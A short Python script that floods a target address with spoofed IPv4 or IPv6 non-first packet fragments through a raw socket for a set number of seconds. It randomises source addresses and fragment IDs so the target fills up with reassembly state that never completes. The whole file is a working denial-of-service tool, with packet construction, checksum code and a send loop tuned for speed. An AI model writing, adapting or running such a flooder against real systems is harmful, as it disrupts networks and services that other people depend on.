"""Floods an address with later fragments without a first one, from many sources, for so many seconds.

    flood.py INTERFACE GATEWAY_MAC TARGET SECONDS

Prints how many were sent. Plain sockets: scapy makes some hundred a second.
"""

import random
import socket
import struct
import sys
import time


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(link, target):
    """A part at an offset, of 1,000 octets."""
    if len(target) == 16:
        source = b"\x20\x01\x0d\xb8" + random.randbytes(12)
        fixed = struct.pack("!IHBB", 6 << 28, 1008, 44, 64)
        head = struct.pack("!BBHI", 17, 0, 800 | random.randrange(2), random.randrange(1 << 32))
        return link + fixed + source + target + head + bytes(1000)
    source = bytes([198, 18 + random.randrange(2), random.randrange(256), random.randrange(256)])
    fields = [0x45, 0, 1020, random.randrange(65536), random.randrange(2) << 13 | 100, 64, 17]
    header = struct.pack("!BBHHHBBH4s4s", *fields, 0, source, target)
    return link + header[:10] + struct.pack("!H", checksum(header)) + header[12:] + bytes(1000)


def main():
    interface, mac, target, seconds = sys.argv[1:]
    six = ":" in target
    target = socket.inet_pton(socket.AF_INET6 if six else socket.AF_INET, target)
    link = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x77" + (b"\x86\xdd" if six else b"\x08\0")
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    frames = [frame(link, target) for _ in range(20000)]
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for one in random.sample(frames, 200):
            wire.send(one)
        sent += 200
    print(sent)


main()
